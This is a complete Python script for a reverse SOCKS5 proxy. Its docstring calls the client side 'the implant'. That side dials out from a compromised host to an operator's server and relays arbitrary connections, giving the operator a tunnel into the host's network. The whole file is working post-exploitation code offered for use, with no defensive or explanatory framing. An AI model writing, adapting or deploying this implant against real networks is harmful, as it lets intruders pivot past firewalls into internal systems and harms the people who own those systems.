"""A reverse SOCKS5 proxy, in two roles, as revsocks-like tools work.

server: the operator's side. Agents dial LISTEN_ADDR:LISTEN_PORT; each SOCKS
client that connects to 127.0.0.1:SOCKS_PORT is joined to the next idle agent
connection, and its bytes (SOCKS5 handshake included) go down it as they are.
agent: the implant. Dials the server, waits for a SOCKS5 request on that
connection, dials what it names and relays both ways; then dials the server
again for the next stream, STREAMS times in all.

Usage: revsocks.py server LISTEN_ADDR LISTEN_PORT SOCKS_PORT
       revsocks.py agent SERVER PORT STREAMS"""
import queue
import socket
import struct
import sys
import threading
import time


def pump(a, b):
    try:
        while True:
            d = a.recv(65536)
            if not d:
                break
            b.sendall(d)
        b.shutdown(socket.SHUT_WR)
    except OSError:
        pass


def exact(c, n):
    b = b""
    while len(b) < n:
        d = c.recv(n - len(b))
        if not d:
            raise EOFError
        b += d
    return b


def server(addr, port, socks_port):
    agents = queue.Queue()

    def accept_agents():
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((addr, port))
        s.listen(8)
        while True:
            agents.put(s.accept()[0])

    threading.Thread(target=accept_agents, daemon=True).start()
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("127.0.0.1", socks_port))
    s.listen(8)
    while True:
        client, _ = s.accept()
        agent = agents.get()
        threading.Thread(target=pump, args=(client, agent), daemon=True).start()
        threading.Thread(target=pump, args=(agent, client), daemon=True).start()


def agent(host, port, streams):
    deadline = time.monotonic() + 60
    for _ in range(streams):
        while True:
            try:
                c = socket.create_connection((host, port), timeout=5)
                break
            except OSError:
                if time.monotonic() > deadline:
                    return
                time.sleep(0.2)
        c.settimeout(max(deadline - time.monotonic(), 1))
        try:
            exact(c, exact(c, 2)[1])  # version, methods
            c.sendall(b"\x05\x00")
            ver, cmd, _, atyp = exact(c, 4)
            if atyp == 1:
                dst = socket.inet_ntoa(exact(c, 4))
            elif atyp == 3:
                dst = exact(c, exact(c, 1)[0]).decode()
            else:
                raise EOFError
            dport = struct.unpack("!H", exact(c, 2))[0]
            u = socket.create_connection((dst, dport), timeout=5)
            c.sendall(b"\x05\x00\x00\x01" + socket.inet_aton(u.getsockname()[0]) + struct.pack("!H", u.getsockname()[1]))
        except (EOFError, OSError):
            c.close()
            continue
        c.settimeout(None)
        t = threading.Thread(target=pump, args=(u, c), daemon=True)
        t.start()
        pump(c, u)
        t.join(10)
        c.close()
        u.close()


if len(sys.argv) == 5 and sys.argv[1] == "server":
    server(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
elif len(sys.argv) == 5 and sys.argv[1] == "agent":
    agent(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
else:
    raise SystemExit(__doc__)
